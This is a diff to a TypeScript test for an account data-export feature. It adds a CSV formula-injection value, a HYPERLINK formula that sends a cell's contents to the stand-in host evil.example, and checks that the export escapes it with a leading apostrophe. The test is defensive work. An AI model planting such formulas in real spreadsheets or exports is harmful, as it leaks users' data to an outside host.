@@ -1,4 +1,5 @@
 // 'Download my data': the owner asks, the queue builds the zip, the mail carries a link that works for 24 hours.
+import { parse } from 'csv-parse/sync';
 import { sql } from 'kysely';
 import yauzl from 'yauzl';
 
@@ -81,6 +82,8 @@ it('builds a zip of the account, its verifications, templates and documents, and
   await createTemplate(app, owner, { name: 'Diplomas' });
   const first = await createVerification(app, owner, {
     file: { name: 'diploma.pdf', data: await makePdf() },
+    // What a shared editor or a bulk sheet can set: a spreadsheet must not run it.
+    title: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
     holder_name: 'Ada Lovelace',
   });
   const second = await createVerification(app, owner, {
@@ -129,6 +132,10 @@ it('builds a zip of the account, its verifications, templates and documents, and
   expect(csv).toHaveLength(3);
   expect(csv.find((line) => line.includes(first.code))).toContain('Ada Lovelace');
   expect(csv.find((line) => line.includes(second.code))).toContain('"Alan, ""the"" Turing"');
+  const [firstRow] = parse(entries.get('verifications.csv')!, { columns: true }).filter(
+    (row: Record<string, string>) => row.code === first.code,
+  );
+  expect(firstRow.title).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Open")`);
 
   const templates = JSON.parse(entries.get('templates.json')!.toString());
   expect(templates.map((t: { name: string }) => t.name)).toEqual(
